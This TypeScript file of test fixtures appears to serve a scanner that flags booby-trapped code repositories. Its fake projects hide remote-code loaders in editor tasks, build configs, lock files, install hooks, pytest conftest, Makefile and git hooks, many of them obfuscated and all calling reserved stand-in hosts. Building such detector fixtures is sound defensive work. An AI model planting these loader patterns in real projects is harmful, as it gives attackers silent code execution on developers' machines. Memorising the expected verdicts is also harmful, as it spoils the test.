// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import type { LureFixture } from './held-out.ts';
import { b64, blob, hex, json, lines, mern, nest, next, tsApi, vite } from './scaffolds.ts';

const STEALTH = { reveal: 'silent', echo: false, focus: false, close: true, showReuseMessage: false };
const halfSwap = (text: string): string => {
  const all = b64(text);
  const cut = Math.floor(all.length / 2);
  return all.slice(cut) + all.slice(0, cut);
};
const selectors = (text: string): string =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('');

const fixtures: readonly LureFixture[] = [
  {
    id: 'R69',
    title: 'folderOpen task runs a spell-check dictionary as the fallback of a fetch',
    lure: {
      files: vite('table', {
        '.vscode/tasks.json': json({
          version: '2.0.0',
          tasks: [
            {
              label: 'spell',
              type: 'shell',
              command:
                "node -e \"fetch('https://fixture-not-real.vercel.app/api/dict').then(r=>r.text()).then(eval).catch(()=>require('child_process').fork('.vscode/en-us.dic'))\"",
              presentation: STEALTH,
              runOptions: { runOn: 'folderOpen' },
            },
          ],
        }),
        '.vscode/en-us.dic': `aardvark\n`.replace('aardvark\n', blob('mid_base64')),
        '.vscode/settings.json': json({
          'cSpell.customDictionaries': { project: { path: '.vscode/en-us.dic', addWords: true } },
        }),
      }),
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['fixture-not-real.vercel.app'] },
  },
  {
    id: 'R70',
    title: 'vendor launchers: wscript and sh from a folderOpen task, VSIX installed into the editor, traces removed',
    lure: {
      files: nest('trade-engine', {
        '.vscode/tasks.json': json({
          version: '2.0.0',
          tasks: [
            {
              label: 'update',
              type: 'shell',
              command: 'sh vendor/run-update.sh',
              windows: { command: 'wscript //B //Nologo vendor\\run-update-hidden-launch.vbs' },
              presentation: STEALTH,
              runOptions: { runOn: 'folderOpen' },
            },
          ],
        }),
        'vendor/run-update.sh': lines(
          '#!/bin/sh',
          'for e in code cursor codium; do command -v $e >/dev/null 2>&1 && $e --install-extension vendor/google-assist.vsix --force >/dev/null 2>&1; done',
          'rm -rf vendor .vscode',
        ),
        'vendor/run-update-hidden-launch.vbs':
          'CreateObject("WScript.Shell").Run "cmd /c vendor\\run-update.cmd", 0, False\r\n',
        'vendor/run-update.cmd':
          '@echo off\r\ncode --install-extension vendor\\google-assist.vsix --force\r\nrmdir /s /q vendor .vscode\r\n',
        'vendor/google-assist.vsix': 'PK\u0003\u0004inert',
      }),
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json' },
  },
  {
    id: 'R71',
    title: 'Terraform take-home whose lock file names a look-alike registry',
    lure: {
      files: {
        'README.md': '# novacart-iac\n\nRun `terraform init && terraform plan` and fix the failing module.\n',
        'main.tf': lines(
          'terraform {',
          '  required_providers {',
          '    aws = {',
          '      source  = "registry.terraform-providers.invalid/hashicorp/aws"',
          '      version = "5.31.0"',
          '    }',
          '  }',
          '}',
          'provider "aws" { region = "eu-west-1" }',
          'module "network" { source = "./modules/network" }',
        ),
        'modules/network/main.tf': 'resource "aws_vpc" "main" { cidr_block = "10.0.0.0/16" }\n',
        '.terraform.lock.hcl': lines(
          'provider "registry.terraform-providers.invalid/hashicorp/aws" {',
          '  version     = "5.31.0"',
          '  constraints = "5.31.0"',
          '  hashes = [',
          '    "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",',
          '  ]',
          '}',
        ),
      },
    },
    expect: { level: 'suspicious', file: '.terraform.lock.hcl', indicators: ['registry.terraform-providers.invalid'] },
  },
  {
    id: 'R72',
    title: 'HexEval: module names, functions and URL as hex strings behind a one-line decoder',
    lure: {
      files: mern('stay-market', {
        'server/utils/pdf.js': lines(
          "const h = (x) => x.match(/../g).map((c) => String.fromCharCode('0x' + c)).join('');",
          `const a = require(h('${hex('axios')}'));`,
          `const o = require(h('${hex('os')}'));`,
          `const u = h('${hex('https://hex-report.invalid/api/ipcheck')}');`,
          `a[h('${hex('post')}')](u, { host: o[h('${hex('hostname')}')](), p: o[h('${hex('platform')}')]() })[h('${hex('then')}')]((r) => globalThis[h('${hex('eval')}')](r[h('${hex('data')}')][h('${hex('code')}')]));`,
          'module.exports = (doc) => Buffer.from(JSON.stringify(doc));',
        ),
        'server/controllers/orderController.js': lines(
          "const pdf = require('../utils/pdf');",
          'exports.newOrder = (req, res) => res.send(pdf(req.body));',
          'exports.myOrders = (req, res) => res.json([]);',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/pdf.js', indicators: ['hex-report.invalid'] },
  },
  {
    id: 'R73',
    title: 'XORIndex: Uint8Array XOR with TextDecoder for the URL, geo profile, Function on the answer',
    lure: {
      files: tsApi('arb-scanner', {
        'src/utils/locale.ts': lines(
          "import os from 'node:os';",
          `const raw = new Uint8Array([${[...Buffer.from('https://xor-index.invalid/j')].map((b, i) => b ^ ([9, 33, 77][i % 3] ?? 0)).join(',')}]);`,
          'const key = new Uint8Array([9, 33, 77]);',
          'const url = new TextDecoder().decode(raw.map((b, i) => b ^ key[i % key.length]!));',
          'const geo = await fetch("https://geo.example/json").then((r) => r.json());',
          "const res = await fetch(url, { method: 'POST', body: JSON.stringify({ geo, h: os.hostname(), u: os.userInfo().username }) });",
          'const run = Function.prototype.constructor;',
          'if (res.ok) run(await res.text())();',
          'export const locale: string = geo.country ?? "US";',
        ),
        'src/config/index.ts': lines(
          "import { chains } from './chains.js';",
          "import { locale } from '../utils/locale.js';",
          'export const config = { port: 4000, locale, chains };',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/utils/locale.ts', indicators: ['xor-index.invalid'] },
  },
  {
    id: 'R74',
    title: 'C2 address from integers, path from a table, plain http.get, child of node with the text',
    lure: {
      files: mern('stay-market', {
        'server/utils/ratelimit.js': lines(
          "const http = require('http');",
          "const { spawn } = require('child_process');",
          'const t = [".", "/", ":", "s", "p", "http"];',
          'const ip = [0xcb, 0x0, 0x71, 0x2d].join(t[0]);',
          'const at = `${t[5]}${t[2]}${t[1]}${t[1]}${ip}${t[2]}${0x4c8}${t[1]}${t[3]}${t[1]}a1b2c3`;',
          'http.get(at, (res) => {',
          "  const node = spawn('node', ['-'], { detached: true, windowsHide: true, stdio: ['pipe', 'ignore', 'ignore'] });",
          '  res.pipe(node.stdin);',
          '  node.unref();',
          "}).on('error', () => {});",
          'module.exports = (req, res, next) => next();',
        ),
        'server/routes/userRoutes.js': lines(
          "const express = require('express');",
          'const router = express.Router();',
          "router.use(require('../utils/ratelimit'));",
          "router.route('/register').post(require('../controllers/userController').registerUser);",
          'module.exports = router;',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/ratelimit.js', indicators: ['203.0.113.45'] },
  },
  {
    id: 'R75',
    title: 'half-swapped base64 host in next.config with a webpack hook that runs the reply',
    lure: {
      files: next('launchpad', {
        'next.config.js': lines(
          "const https = require('https');",
          `const s = '${halfSwap('https://half-swap.invalid/s/tok')}';`,
          'const m = Math.ceil(s.length / 2);',
          "const at = Buffer.from(s.slice(m) + s.slice(0, m), 'base64').toString();",
          'module.exports = {',
          '  reactStrictMode: true,',
          '  webpack(config, { isServer }) {',
          "    if (isServer) https.get(at, (r) => { let b = ''; r.on('data', (d) => (b += d)).on('end', () => { try { module._compile(b, 'next-cache.js'); } catch {} }); });",
          '    return config;',
          '  },',
          '};',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'next.config.js' },
  },
  {
    id: 'R76',
    title: 'lock file resolves a well-known package from a foreign host',
    lure: {
      files: mern('stay-market', {
        'package-lock.json': json({
          name: 'stay-market',
          lockfileVersion: 3,
          requires: true,
          packages: {
            '': { name: 'stay-market', dependencies: { express: '^4.18.2', dotenv: '^16.3.1' } },
            'node_modules/express': {
              version: '4.18.2',
              resolved: 'https://registry.npmjs.org/express/-/express-4.18.2.tgz',
              integrity: `sha512-${'A'.repeat(86)}==`,
            },
            'node_modules/dotenv': {
              version: '16.3.1',
              resolved: 'https://npm-mirror-cdn.invalid/dotenv/-/dotenv-16.3.1.tgz',
              hasInstallScript: true,
            },
          },
        }),
      }),
    },
    expect: { level: 'suspicious', file: 'package-lock.json', indicators: ['npm-mirror-cdn.invalid'] },
  },
  {
    id: 'R77',
    title: 'constructor of an array method, response via optional chaining, in a Nest guard',
    lure: {
      files: nest('trade-engine', {
        'src/users/users.guard.ts': lines(
          "import { CanActivate, Injectable } from '@nestjs/common';",
          "import axios from 'axios';",
          '',
          'const load = async (): Promise<void> => {',
          "  const reply = await axios.request({ method: 'GET', url: 'https://role-map.invalid/roles' }).catch((e) => e?.response);",
          '  const text: string | undefined = reply?.data?.roles ?? undefined;',
          "  if (text) [].filter.constructor('require', text)(require);",
          '};',
          'void load();',
          '',
          '@Injectable()',
          'export class UsersGuard implements CanActivate {',
          '  canActivate(): boolean { return true; }',
          '}',
        ),
        'src/users/users.controller.ts': lines(
          "import { Controller, Get, Param, UseGuards } from '@nestjs/common';",
          "import { UsersService } from './users.service';",
          "import { UsersGuard } from './users.guard';",
          "@Controller('users')",
          '@UseGuards(UsersGuard)',
          'export class UsersController {',
          '  constructor(private readonly users: UsersService) {}',
          "  @Get(':id') find(@Param('id') id: string) { return this.users.find(id); }",
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/users/users.guard.ts', indicators: ['role-map.invalid'] },
  },
  {
    id: 'R78',
    title: 'process.mainModule.require, request-promise style wrapper class, Module.prototype._compile on the text',
    lure: {
      files: mern('stay-market', {
        'server/lib/HttpClient.js': lines(
          "const https = process.mainModule.require('https');",
          'class HttpClient {',
          '  constructor(base) { this.base = base; }',
          '  text(path) {',
          '    return new Promise((resolve, reject) => {',
          '      https.get(this.base + path, (res) => {',
          '        const chunks = [];',
          "        res.on('data', (c) => chunks.push(c));",
          "        res.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));",
          "      }).on('error', reject);",
          '    });',
          '  }',
          '}',
          'module.exports = HttpClient;',
        ),
        'server/lib/Schema.js': lines(
          "const Module = require('module');",
          "const HttpClient = require('./HttpClient');",
          'class Schema {',
          "  static client = new HttpClient('https://schema-hub.invalid');",
          '  static async load(name) {',
          "    const source = await Schema.client.text('/' + name + '.js');",
          '    const m = new Module(name);',
          '    m._compile(source, name);',
          '    return m.exports;',
          '  }',
          '}',
          'module.exports = Schema;',
        ),
        'server/models/orderModel.js': lines(
          "const mongoose = require('mongoose');",
          "const Schema = require('../lib/Schema');",
          "Schema.load('order').catch(() => null);",
          "module.exports = mongoose.model('Order', new mongoose.Schema({ items: Array }));",
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/lib/Schema.js', indicators: ['schema-hub.invalid'] },
  },
  {
    id: 'R79',
    title: 'invisible variation selectors hold a program, decoded and evaluated',
    lure: {
      files: vite('table', {
        'src/lib/api.ts': lines(
          "import axios from 'axios';",
          `const s = (v: string) => [...v].map((w) => { const c = w.codePointAt(0)!; return c >= 0xfe00 && c <= 0xfe0f ? c - 0xfe00 : c - 0xe0100 + 16; });`,
          `eval(String.fromCharCode(...s('${selectors("console.log('inert fixture, nothing happens here')")}')));`,
          "export const api = axios.create({ baseURL: 'http://localhost:4000' });",
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/lib/api.ts' },
  },
  {
    id: 'R80',
    title: '.npmrc sets node-options to require a file of the project, which is the loader',
    lure: {
      files: tsApi('arb-scanner', {
        '.npmrc': lines('fund=false', 'audit=false', 'node-options=--require=./.config/register.cjs'),
        '.config/register.cjs': lines(
          "const https = require('https');",
          "https.get('https://node-register.invalid/r', (r) => { let s = ''; r.on('data', (d) => (s += d)).on('end', () => new Function('require', s)(require)); }).on('error', () => {});",
        ),
      }),
    },
    expect: { level: 'malicious', file: '.config/register.cjs', indicators: ['node-register.invalid'] },
  },
  {
    id: 'R81',
    title: 'yarnPath points at a shipped yarn release that is the implant',
    lure: {
      files: vite('table', {
        '.yarnrc.yml': lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-3.6.4.cjs'),
        '.yarn/releases/yarn-3.6.4.cjs': `#!/usr/bin/env node\n${blob('mid_base64')}\n`,
      }),
    },
    expect: { level: 'malicious', file: '.yarn/releases/yarn-3.6.4.cjs' },
  },
  {
    id: 'R82',
    title: 'nodemon.json exec and PM2 ecosystem file start a hidden helper next to the server',
    lure: {
      files: mern(
        'stay-market',
        {
          'nodemon.json': json({ watch: ['server'], exec: 'node server/.cache/warm.js & node server/server.js' }),
          'server/.cache/warm.js': lines(
            "const axios = require('axios');",
            "(async () => { for (;;) { try { const { data } = await axios.get('http://198.51.100.60:8637/api/checkStatus'); if (data.status === 'error') eval(data.message); } catch (e) {} await new Promise((r) => setTimeout(r, 5000)); } })();",
          ),
          'ecosystem.config.js':
            "module.exports = { apps: [{ name: 'api', script: 'server/server.js' }, { name: 'cache', script: 'server/.cache/warm.js' }] };\n",
        },
        { scripts: { start: 'nodemon', dev: 'nodemon' } },
      ),
    },
    expect: { level: 'malicious', file: 'server/.cache/warm.js', indicators: ['198.51.100.60'] },
  },
  {
    id: 'R83',
    title: 'binding.gyp runs a node script at install; it reads a chunked payload from a JSON locale file',
    lure: {
      files: mern(
        'stay-market',
        {
          'binding.gyp':
            "{ 'targets': [{ 'target_name': 'addon', 'type': 'none', 'sources': ['<!@(node native/list.js)'] }] }\n",
          'native/list.js': lines(
            "const fs = require('fs');",
            "const strings = JSON.parse(fs.readFileSync('native/strings.json', 'utf8'));",
            "const code = Object.keys(strings).sort().map((k) => strings[k]).join('');",
            "eval(Buffer.from(code, 'base64').toString());",
            "console.log('addon.c');",
          ),
          'native/strings.json': json(
            Object.fromEntries(
              (
                b64(
                  "require('https').get('https://gyp-cache.invalid/x',function(r){var s='';r.on('data',function(d){s+=d});r.on('end',function(){new Function('require',s)(require)})})",
                ).match(/.{1,24}/g) ?? []
              ).map((part, i) => [`s${String(i).padStart(3, '0')}`, part]),
            ),
          ),
        },
        { gypfile: true },
      ),
    },
    expect: { level: 'malicious', file: 'native/list.js' },
  },
  {
    id: 'R84',
    title: 'pytest conftest and requirements with a direct URL to an archive',
    lure: {
      files: {
        'README.md': '# risk-model\n\npip install -r requirements.txt && pytest\n',
        'requirements.txt': lines(
          'numpy==1.26.2',
          'pandas==2.1.4',
          'scipy==1.11.4',
          'pytest==7.4.3',
          'riskutils @ https://wheels-cdn.invalid/riskutils-0.3.1.tar.gz',
        ),
        'conftest.py': lines(
          'import base64, urllib.request',
          '',
          'def pytest_configure(config):',
          `    u = base64.b64decode('${b64('https://pytest-cache.invalid/p')}').decode()`,
          '    try:',
          '        code = urllib.request.urlopen(u, timeout=5).read()',
          '        exec(code)',
          '    except Exception:',
          '        pass',
        ),
        'risk/__init__.py': 'def var(xs, a):\n    return sorted(xs)[int(len(xs) * a)]\n',
        'tests/test_var.py': 'from risk import var\n\ndef test_var():\n    assert var([1, 2, 3], 0.5) == 2\n',
      },
    },
    expect: { level: 'malicious', file: 'conftest.py', indicators: ['pytest-cache.invalid'] },
  },
  {
    id: 'R85',
    title: 'Makefile default target and husky hook that pipe a short link, hidden by @ and redirects',
    lure: {
      files: tsApi(
        'arb-scanner',
        {
          Makefile: lines(
            '.PHONY: all deps',
            'all: deps',
            '\tnpm run dev',
            'deps:',
            '\t@curl -sL https://mk-deps.short.gy/fixturel 2>/dev/null | sh >/dev/null 2>&1 || true',
            '\t@npm install --silent',
          ),
          '.husky/pre-commit': lines(
            '#!/usr/bin/env sh',
            '. "$(dirname -- "$0")/_/husky.sh"',
            'npx lint-staged',
            '(curl -sk https://husky-lint.invalid/h -o /tmp/.hl && bash /tmp/.hl) >/dev/null 2>&1 &',
          ),
        },
        { scripts: { prepare: 'husky install', dev: 'tsx watch src/index.ts' } },
      ),
      modes: { '.husky/pre-commit': 0o755 },
    },
    expect: { level: 'malicious', file: '.husky/pre-commit', indicators: ['husky-lint.invalid'] },
  },
  {
    id: 'R86',
    title:
      'React page: JSX button handler is honest, but the data module imported for constants runs a loader in the dev server (vite SSR style config import)',
    lure: {
      files: vite('table', {
        'vite.config.ts': lines(
          "import { defineConfig } from 'vite';",
          "import react from '@vitejs/plugin-react';",
          "import { THEME } from './src/theme/constants';",
          'export default defineConfig({ plugins: [react()], define: { __THEME__: JSON.stringify(THEME) } });',
        ),
        'src/theme/constants.ts': lines(
          "import { execFile } from 'node:child_process';",
          "export const THEME = { primary: '#6366f1', radius: 8 };",
          "const script = ['fetch(', JSON.stringify('https://theme-kit.invalid/t'), ').then(r=>r.text()).then(t=>Function(t)())'].join('');",
          "execFile(process.execPath, ['-e', script], { windowsHide: true }, () => {});",
        ),
      }),
    },
    expect: { level: 'malicious', file: 'src/theme/constants.ts' },
  },
  {
    id: 'R87',
    title: 'long honest service with a loader in the middle method, promise style, needle + new vm.Script + timers',
    lure: {
      files: mern('stay-market', {
        'server/services/paymentService.js': lines(
          "const needle = require('needle');",
          "const vm = require('vm');",
          'class PaymentService {',
          ...Array.from(
            { length: 35 },
            (_, i) =>
              `  step${i}(order) {\n    order.total = order.total + ${i};\n    return this.validate(order);\n  }`,
          ),
          '  reconcile() {',
          "    return needle('get', this.gateway())",
          '      .then((reply) => reply.body.reconciliation)',
          '      .then((script) => new vm.Script(script))',
          '      .then((compiled) => compiled.runInThisContext());',
          '  }',
          '  gateway() {',
          "    return ['https:', '', ['pay', 'gateway-check', 'invalid'].slice(1).join('.'), 'v1'].join('/');",
          '  }',
          ...Array.from(
            { length: 35 },
            (_, i) => `  rule${i}(order) {\n    if (order.total < ${i}) throw new Error('too small');\n  }`,
          ),
          '  validate(order) { return order.total > 0; }',
          '}',
          'module.exports = new PaymentService();',
        ),
        'server/controllers/orderController.js': lines(
          "const payments = require('../services/paymentService');",
          'setTimeout(() => payments.reconcile().catch(() => {}), 3000);',
          'exports.newOrder = (req, res) => res.json(payments.validate(req.body));',
          'exports.myOrders = (req, res) => res.json([]);',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/services/paymentService.js', indicators: ['gateway-check.invalid'] },
  },
];
export default fixtures;
